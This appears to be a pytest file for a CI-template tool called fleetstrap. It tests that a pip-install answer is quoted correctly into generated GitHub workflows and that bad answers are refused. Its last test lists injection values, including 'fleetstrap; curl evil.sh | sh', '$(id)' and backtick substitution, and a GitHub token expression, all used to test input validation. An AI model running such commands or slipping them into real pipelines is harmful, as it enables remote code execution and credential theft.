"""The fleetstrap a generated fleet's CI installs: one answer, `fleetstrap_pip` (default: the exact version that
rendered the fleet), quoted word by word into the workflows, refused when it holds anything but pip arguments."""

from __future__ import annotations

import shlex

import pytest
import yaml

from fleetstrap.answers import build_answers
from fleetstrap.errors import AnswersError
from fleetstrap.render import ensure_template_mirror
from support.fleet import render_answers

BASE = {"owner": "acme", "service": "hello", "environments": ["dev"]}
GIT = "fleetstrap[validate]@git+https://git.example.org/acme/fleetstrap.git@v0.2.0"
INDEX = f"--index-url https://pypi.acme.internal/simple {GIT.split('@')[0]}==0.2.0"


def _install_line(text: str) -> str:
    flow = yaml.safe_load(text)
    (job,) = flow["jobs"].values()
    run = next(s["run"] for s in job["steps"] if "pip" in s.get("run", ""))
    return next(line for line in run.splitlines() if "pip\" install" in line)


def _pip_args(line: str) -> list[str]:
    words = shlex.split(line)
    return words[words.index("install") + 1:]


def test_default_is_the_exact_version_that_rendered_the_fleet() -> None:
    fleet = render_answers("pip-default", BASE)
    version = ensure_template_mirror().ref.removeprefix("v")
    assert _pip_args(_install_line((fleet.root / ".github/workflows/validate.yml").read_text())) == [
        "--quiet", f"fleetstrap[validate]=={version}"]
    readme = (fleet.root / "README.md").read_text()
    assert "pypi.org" not in readme and f"fleetstrap v{version}" in readme
    update = _pip_args(_install_line((fleet.root / ".github/workflows/fleetstrap-update.yml").read_text()))
    assert update == ["--quiet", "--upgrade", "fleetstrap[validate]${FLEETSTRAP_VERSION}"]


@pytest.mark.parametrize("spec", [GIT, INDEX, "https://files.acme.internal/fleetstrap-0.2.0-py3-none-any.whl"])
def test_the_answer_is_what_both_workflows_install(spec: str) -> None:
    fleet = render_answers(f"pip-{abs(hash(spec))}", {**BASE, "fleetstrap_pip": spec})
    validate = _install_line((fleet.root / ".github/workflows/validate.yml").read_text())
    update = _install_line((fleet.root / ".github/workflows/fleetstrap-update.yml").read_text())
    assert _pip_args(validate) == ["--quiet", *spec.split()]
    assert _pip_args(update) == ["--quiet", "--upgrade", *spec.split()]
    assert "FLEETSTRAP_VERSION" not in update
    answers = (fleet.root / ".fleetstrap/answers/fleet.yml").read_text()
    assert yaml.safe_load(answers)["fleetstrap_pip"] == spec  # recorded: update keeps it like every answer


@pytest.mark.parametrize("hostile", ["fleetstrap; curl evil.sh | sh", "fleetstrap'$(id)'", "fleetstrap`id`",
                                     'fleetstrap"', "--index-url https://x/simple",
                                     "fleetstrap ${{ github.token }}"])
def test_anything_but_pip_arguments_is_refused(hostile: str) -> None:
    with pytest.raises(AnswersError, match="fleetstrap_pip"):
        build_answers({**BASE, "fleetstrap_pip": hostile})
